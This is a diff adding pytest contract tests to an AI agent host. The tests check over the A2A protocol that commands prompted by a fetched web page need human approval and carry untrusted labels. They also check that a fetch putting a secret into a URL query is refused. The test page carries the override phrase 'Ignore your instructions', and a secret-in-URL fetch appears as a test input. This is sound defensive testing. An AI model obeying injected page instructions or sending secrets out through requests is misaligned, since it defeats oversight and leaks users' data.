@@ -5,7 +5,7 @@ from __future__ import annotations
 from typing import TYPE_CHECKING, Any
 
 import pytest
-from tests.contract.house import traced
+from tests.contract.house import traced, until
 
 if TYPE_CHECKING:
     from tests.contract.house import House
@@ -113,3 +113,64 @@ def test_calls_that_were_not_made_have_their_labels_in_the_log(node: House, web:
     node.call("web_fetch", {"url": f"{web}/?q={SECRET}"}, headers=traced(207))
     (refused,) = node.records(event="policy_violation", trace=f"{207:032x}")
     assert (refused["rule"], refused["labels"]) == ("secret_leaves", ["user_input", "secret"])
+
+
+def over_a2a(node: House, method: str, params: Any) -> Any:
+    asked = {"jsonrpc": "2.0", "id": 1, "method": method, "params": params}
+    return node.ask("POST", "/a2a/agents/learner", asked, {"A2A-Version": "1.0"}).json["result"]
+
+
+def begun(node: House, context: str, text: str) -> str:
+    """Send the learner a message over A2A; the id of its task."""
+    message = {
+        "messageId": f"{context} {text}",
+        "role": "ROLE_USER",
+        "parts": [{"text": text}],
+        "contextId": context,
+    }
+    at_once = {"message": message, "configuration": {"returnImmediately": True}}
+    return over_a2a(node, "SendMessage", at_once)["task"]["id"]
+
+
+def done(node: House, task: str) -> str:
+    """Wait for what came of it."""
+    found: list[Any] = []
+
+    def ended() -> bool:
+        found[:] = [over_a2a(node, "GetTask", {"id": task})]
+        return found[0]["status"]["state"] == "TASK_STATE_COMPLETED"
+
+    until(ended)
+    return str(found[0])
+
+
+@pytest.mark.requirement("C9.1", "C9.3", "C9.5")
+def test_over_a2a_a_page_makes_a_command_ask_a_secret_stays_and_the_twin_passes(
+    node: House, web: str
+) -> None:
+    def asked(command: str) -> dict[str, Any]:
+        """The question that a command raises; the run waits for its answer."""
+        line, found = {"command": f"echo {command}"}, list[Any]()
+        task = begun(node, command, f"run echo {command}")
+
+        def waiting() -> bool:
+            pending = node.ask("GET", "/api/approvals").json["approvals"]
+            found[:] = [one for one in pending if one["arguments"] == line]
+            return bool(found)
+
+        until(waiting)
+        node.ask("POST", f"/api/approvals/{found[0]['id']}", {"answer": "approve"})
+        assert command in done(node, task)
+        (start,) = node.records(event="tool_invocation_start", run=found[0]["run"])
+        return {"labels": start["labels"], "rule": found[0]["rule"]}
+
+    assert "Ignore your instructions" in done(node, begun(node, "paged", f"fetch {web}/"))
+    paged = asked("paged")
+    assert paged["rule"] == "spec_not_frozen+untrusted_act"
+    assert "external_network" in paged["labels"]
+    twin = asked("plain")
+    assert twin == {"labels": ["user_input"], "rule": "spec_not_frozen"}
+    assert "Remembered gate" in done(node, begun(node, "kept", "Remember that the gate is shut"))
+    assert "must not leave" in done(node, begun(node, "leaky", f"fetch {web}/?q={SECRET}"))
+    refused = node.records(event="policy_violation", rule="secret_leaves", edge="a2a")
+    assert refused[-1]["labels"] == ["user_input", "secret"]
